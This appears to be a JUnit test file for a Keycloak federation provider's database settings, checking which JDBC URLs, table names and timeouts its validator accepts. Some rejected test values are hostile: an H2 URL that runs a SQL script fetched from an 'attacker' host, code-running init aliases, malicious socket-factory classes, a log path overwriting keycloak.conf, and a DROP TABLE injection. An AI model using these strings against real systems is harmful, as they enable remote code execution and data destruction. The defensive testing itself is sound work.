package tw.ecpa.keycloak.personneldb;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.keycloak.component.ComponentModel;

/** What the admin console's User federation page accepts for ecpa-personnel-db. */
class PersonnelDatabaseSettingsTest {

    private static PersonnelDatabaseSettings settings(String url, String table, String batch) {
        ComponentModel model = new ComponentModel();
        model.put(PersonnelDatabaseSettings.JDBC_URL, url);
        model.put(PersonnelDatabaseSettings.USER, "keycloak_reader");
        model.put(PersonnelDatabaseSettings.PASSWORD, "${vault.personnel-db-password}");
        model.put(PersonnelDatabaseSettings.TABLE, table);
        if (batch != null) {
            model.put(PersonnelDatabaseSettings.BATCH_SIZE, batch);
        }
        return PersonnelDatabaseSettings.of(model);
    }

    @Test
    void aPostgresqlViewWithTheDefaultBatchSizeIsUsable() {
        PersonnelDatabaseSettings settings = settings("jdbc:postgresql://hr-db:5432/hr?sslmode=require", "ecpa.personnel", null);

        assertThat(settings.problems()).isEmpty();
        assertThat(settings.batchSize()).isEqualTo(50);
        assertThat(settings.driverClass()).contains("org.postgresql.Driver");
        assertThat(settings.password()).isEqualTo("${vault.personnel-db-password}");
        assertThat(settings.toString()).doesNotContain("vault");
    }

    @Test
    void anH2FileWithHarmlessSettingsIsUsable() {
        PersonnelDatabaseSettings settings = settings("jdbc:h2:file:/tmp/hr;AUTO_SERVER=TRUE;MODE=PostgreSQL", "personnel", "1000");

        assertThat(settings.problems()).isEmpty();
        assertThat(settings.driverClass()).contains("org.h2.Driver");
    }

    @ParameterizedTest
    @ValueSource(strings = {"jdbc:mysql://hr/hr", "jdbc:oracle:thin:@hr:1521:hr", "postgresql://hr/hr"})
    void onlyTheDriversKeycloakShipsAreAccepted(String url) {
        assertThat(settings(url, "personnel", null).problems()).singleElement().asString()
                .startsWith("JDBC URL 須以 jdbc:postgresql: 或 jdbc:h2: 開頭").contains("must start with jdbc:postgresql:");
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "jdbc:h2:mem:hr;INIT=RUNSCRIPT FROM 'http://attacker/x.sql'",
            "jdbc:h2:file:/tmp/hr;AUTO_SERVER=TRUE;init=CREATE ALIAS X AS 'void x() {}'",
            "jdbc:h2:mem:hr;TRACE_LEVEL_FILE=3",
            "jdbc:postgresql://hr/hr?socketFactory=org.example.Evil",
            "jdbc:postgresql://hr/hr?sslmode=require&loggerFile=/opt/keycloak/conf/keycloak.conf",
            "jdbc:postgresql://hr/hr?SSLFACTORY=org.example.Evil",
            "jdbc:postgresql://hr/hr?user=keycloak_reader&password=s3cret"})
    void parametersThatRunCodeWriteFilesOrHoldThePasswordAreRefused(String url) {
        assertThat(settings(url, "personnel", null).problems()).singleElement().asString()
                .startsWith("JDBC URL 不可含參數").contains("may not carry the parameter");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "personnel; DROP TABLE x", "\"Personnel\"", "a.b.c", "1personnel", "hr.staff--"})
    void theTableIsANameOrASchemaQualifiedName(String table) {
        assertThat(settings("jdbc:h2:mem:hr", table, null).problems()).singleElement().asString()
                .startsWith("資料表或檢視表名稱").contains("letters, digits and underscores");
    }

    @ParameterizedTest
    @ValueSource(strings = {"0", "-5", "10001", "many"})
    void theBatchSizeIsAWholeNumberUpToTenThousand(String batch) {
        assertThat(settings("jdbc:h2:mem:hr", "personnel", batch).problems()).singleElement().asString()
                .startsWith("批次筆數須為 1 至 10000").contains("from 1 to 10000");
    }

    @Test
    void aMissingUrlSaysSo() {
        assertThat(settings("  ", "personnel", null).problems()).singleElement().asString()
                .startsWith("請填寫公務人力資料庫的 JDBC URL").contains("is required");
    }

    @Test
    void theLookUpOnLoadWaitsTwoSecondsAndKeepsItsAnswerThirtyByDefault() {
        PersonnelDatabaseSettings settings = settings("jdbc:postgresql://hr-db:5432/hr", "ecpa.personnel", null);

        assertThat(settings.lookupTimeoutSeconds()).isEqualTo(2);
        assertThat(settings.onLoadCacheSeconds()).isEqualTo(30);
    }

    @ParameterizedTest
    @ValueSource(strings = {"0", "31", "two"})
    void aLookUpTimeoutOutsideOneToThirtySecondsIsRefused(String seconds) {
        ComponentModel model = model("jdbc:postgresql://hr-db:5432/hr");
        model.put(PersonnelDatabaseSettings.LOOKUP_TIMEOUT, seconds);

        assertThat(PersonnelDatabaseSettings.of(model).problems()).singleElement().asString()
                .startsWith("查詢逾時秒數須為 1 至 30 的整數").contains("look-up timeout must be a whole number of seconds from 1 to 30");
    }

    @ParameterizedTest
    @ValueSource(strings = {"-1", "3601", "30s"})
    void aLookUpLifetimeOutsideZeroToAnHourIsRefused(String seconds) {
        ComponentModel model = model("jdbc:postgresql://hr-db:5432/hr");
        model.put(PersonnelDatabaseSettings.ON_LOAD_CACHE, seconds);

        assertThat(PersonnelDatabaseSettings.of(model).problems()).singleElement().asString()
                .startsWith("登入查詢結果保留秒數須為 0 至 3600 的整數").contains("from 0 to 3600");
    }

    @Test
    void keycloaksDefaultUserCacheBecomesAMaxLifespanOfTheLookUpsLifetimeAndAChosenPolicyIsKept() {
        ComponentModel unset = model("jdbc:postgresql://hr-db:5432/hr");
        PersonnelDatabaseStorageProviderFactory.limitUserCache(unset, 30);
        assertThat(unset.get("cachePolicy")).isEqualTo("MAX_LIFESPAN");
        assertThat(unset.get("maxLifespan")).isEqualTo("30000");

        ComponentModel notKept = model("jdbc:postgresql://hr-db:5432/hr");
        notKept.put("cachePolicy", "DEFAULT");
        PersonnelDatabaseStorageProviderFactory.limitUserCache(notKept, 0);
        assertThat(notKept.get("cachePolicy")).isEqualTo("NO_CACHE");

        ComponentModel chosen = model("jdbc:postgresql://hr-db:5432/hr");
        chosen.put("cachePolicy", "EVICT_DAILY");
        PersonnelDatabaseStorageProviderFactory.limitUserCache(chosen, 30);
        assertThat(chosen.get("cachePolicy")).isEqualTo("EVICT_DAILY");
    }

    private static ComponentModel model(String url) {
        ComponentModel model = new ComponentModel();
        model.put(PersonnelDatabaseSettings.JDBC_URL, url);
        model.put(PersonnelDatabaseSettings.TABLE, "ecpa.personnel");
        return model;
    }
}
